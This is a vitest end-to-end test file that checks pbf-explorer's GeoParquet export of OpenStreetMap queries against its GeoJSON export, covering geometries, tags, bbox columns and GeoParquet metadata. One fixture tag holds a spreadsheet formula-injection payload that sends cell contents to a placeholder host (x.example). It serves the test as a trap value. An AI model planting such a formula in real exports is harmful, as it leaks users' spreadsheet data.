/**
 * `pbf-explorer query --format geoparquet`: the file, read by DuckDB with its spatial extension
 * and by pyarrow (tests/python/geoparquet_check.py), holds the same matches in the same order
 * with the same geometries as the GeoJSON export of the same query, every tag in its map, a
 * bbox column equal to each geometry's extent, and the `geo` metadata GeoParquet 1.1 asks for.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DATA_DIR, FIXTURE_DIR, GEOPARQUET_CHECK, PYTHON } from '../e2e/data';

const CLI = resolve(__dirname, '../../cli/pbf-explorer.mjs');
const dir = mkdtempSync(join(tmpdir(), 'pbf-explorer-geoparquet-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const MALTA = join(DATA_DIR, 'malta.osm.pbf');

/** What geoparquet_check.py says of a GeoParquet file and the GeoJSON export of the same answer. */
interface Check {
  rows: number;
  geojsonRows: number;
  idsEqual: boolean;
  geometryUnequal: string[];
  bboxWrong: string[];
  bboxNullWrong: string[];
  tagsLost: string[];
  firstTags: Record<string, string> | null;
  /** Whether the `change` column equals the GeoJSON's `change` properties, row by row (null: no column). */
  changesEqual: boolean | null;
  changes: string[] | null;
  nullGeometries: number;
  problems: number;
  duckdbTypes: Record<string, string>;
  duckdbTypesSeen: string[];
  geo: { version: string; primary_column: string; columns: Record<string, { encoding: string; geometry_types: string[]; bbox?: number[]; crs?: unknown; covering: unknown }> };
  pbfExplorer: { generator: string; query: { q: string } };
  rowGroups: number;
  pyarrowRows: number;
  pyarrowColumns: string[];
  extent: number[];
}

/**
 * Runs `query` on `file` into a GeoParquet file and a GeoJSON one, and has Python read them.
 * @throws (a failed expectation) when the command line or the reader fails.
 */
function check(file: string, args: string[], name: string): Check {
  const parquet = join(dir, `${name}.parquet`);
  const geojson = join(dir, `${name}.geojson`);
  for (const [format, out] of [['geoparquet', parquet], ['geojson', geojson]]) {
    const run = spawnSync(process.execPath, [CLI, 'query', file, '--format', format, '--out', out, ...args], { encoding: 'utf8' });
    expect(run.status, run.stderr).toBe(0);
  }
  const read = spawnSync(PYTHON, [GEOPARQUET_CHECK, parquet, geojson], { encoding: 'utf8', maxBuffer: 1 << 28 });
  expect(read.status, `${read.error ?? ''} ${read.stderr} (scripts/setup.sh --tests makes ${PYTHON})`).toBe(0);
  return JSON.parse(read.stdout) as Check;
}

/** The GeoJSON export's answer, matched row by row: ids in order, geometries, tags, bboxes. */
function expectSameAnswer(c: Check): void {
  expect(c.rows).toBe(c.geojsonRows);
  expect(c.idsEqual).toBe(true);
  expect(c.geometryUnequal).toEqual([]);
  expect(c.bboxWrong).toEqual([]);
  expect(c.bboxNullWrong).toEqual([]);
  expect(c.tagsLost).toEqual([]);
  expect(c.pyarrowRows).toBe(c.rows);
}

describe('--format geoparquet', () => {
  it('the whole-file building answer of Malta: every match with its full geometry, in row groups, with GeoParquet 1.1 metadata', { timeout: 120_000 }, () => {
    const c = check(MALTA, ['building'], 'malta-building');
    const want = JSON.parse(readFileSync(join(DATA_DIR, 'expected/with-relations/malta.building-all.json'), 'utf8'));
    expect(c.rows).toBe(want.count_with_relations);
    expectSameAnswer(c);
    expect(c.rowGroups).toBeGreaterThan(1);
    // GeoParquet 1.1: version, primary column, WKB, the types present, the bbox covering;
    // no `crs`, which the spec reads as OGC:CRS84.
    const geometry = c.geo.columns.geometry;
    expect(c.geo).toMatchObject({ version: '1.1.0', primary_column: 'geometry' });
    expect(geometry).toMatchObject({ encoding: 'WKB', covering: { bbox: { xmin: ['bbox', 'xmin'], ymin: ['bbox', 'ymin'], xmax: ['bbox', 'xmax'], ymax: ['bbox', 'ymax'] } } });
    expect(geometry.crs).toBeUndefined();
    expect(geometry.geometry_types).toEqual(['Point', 'Polygon', 'MultiLineString', 'MultiPolygon']);
    expect(c.duckdbTypesSeen).toEqual(['MULTILINESTRING', 'MULTIPOLYGON', 'POINT', 'POLYGON']);
    expect(geometry.bbox).toEqual(c.extent);
    // DuckDB takes the column for a geometry by the metadata alone.
    expect(c.duckdbTypes).toMatchObject({ osm_type: 'VARCHAR', osm_id: 'BIGINT', building: 'VARCHAR', tags: 'MAP(VARCHAR, VARCHAR)', geometry: 'GEOMETRY', timestamp: 'TIMESTAMP WITH TIME ZONE', user: 'VARCHAR' });
    expect(c.pyarrowColumns).toEqual(['osm_type', 'osm_id', 'building', 'tags', 'problem', 'version', 'timestamp', 'changeset', 'uid', 'user', 'geometry', 'bbox']);
    expect(c.pbfExplorer).toMatchObject({ generator: 'pbf-explorer', query: { q: 'building' } });
  });

  it('a circle (matches by distance), lines and multipolygons answer as the GeoJSON export does', { timeout: 120_000 }, () => {
    expectSameAnswer(check(MALTA, ['--near', '35.8989,14.5146', '--radius', '1500', 'amenity=cafe or amenity=restaurant'], 'malta-near'));
    const roads = check(MALTA, ['--bbox', '14.49,35.88,14.53,35.91', 'highway=primary or highway=secondary'], 'malta-roads');
    expectSameAnswer(roads);
    expect(roads.duckdbTypesSeen).toContain('LINESTRING');
    const boundaries = check(MALTA, ['type:relation and boundary=administrative'], 'malta-boundaries');
    expectSameAnswer(boundaries);
    expect(boundaries.duckdbTypesSeen).toContain('MULTIPOLYGON');
  });

  it('a match with no geometry is a row with a null geometry and bbox and its reason', { timeout: 120_000 }, () => {
    // fixtures::members_missing: way 20 and relation 30 have nothing placed in the file.
    const c = check(join(FIXTURE_DIR, 'members-missing.osm.pbf'), ['amenity=cafe'], 'members-missing');
    expectSameAnswer(c);
    expect(c.rows).toBe(4);
    expect(c.nullGeometries).toBe(2);
    expect(c.problems).toBe(2);
  });

  it('tags named like own columns stay in the tags map as they are; a query key column never takes an own column\'s name', { timeout: 120_000 }, () => {
    // Each key of the query is a column; `bbox` and `tags` are own columns of this format alone.
    const c = check(join(FIXTURE_DIR, 'export-traps.osm.pbf'), ['amenity=cafe and osm_id=1 and not bbox and not tags'], 'export-traps');
    expectSameAnswer(c);
    expect(c.rows).toBe(1);
    expect(c.firstTags).toMatchObject({ osm_id: '1', osm_type: 'relation', 'tag:osm_id': '2', name: '=HYPERLINK("http://x.example/?leak="&A1,"open")' });
    expect(c.pyarrowColumns.slice(0, 7)).toEqual(['osm_type', 'osm_id', 'amenity', 'tag:osm_id', 'tag:bbox', 'tag:tags', 'tags']);
  });

  it('a change view has a change column, as the GeoJSON export\'s change property; no change column otherwise', { timeout: 120_000 }, (ctx) => {
    // Written by scripts/make-osmium-fixtures.sh (npm test runs it first).
    const history = resolve(__dirname, '../../test-results/osmium/malta-history.osh.pbf');
    if (!existsSync(history)) ctx.skip();
    const c = check(history, ['--from', '2024-06-01', '--at', '2025-01-15', '--near', '35.8989,14.5146', '--radius', '1000', 'amenity=cafe or amenity=restaurant'], 'history-changes');
    expectSameAnswer(c);
    expect(c.changesEqual).toBe(true);
    expect(c.changes).toEqual(['deleted', 'modified']);
    expect(c.pyarrowColumns).toContain('change');
    expect(check(history, ['--near', '35.8989,14.5146', 'amenity=cafe'], 'history-now').changes).toBeNull();
  });
});
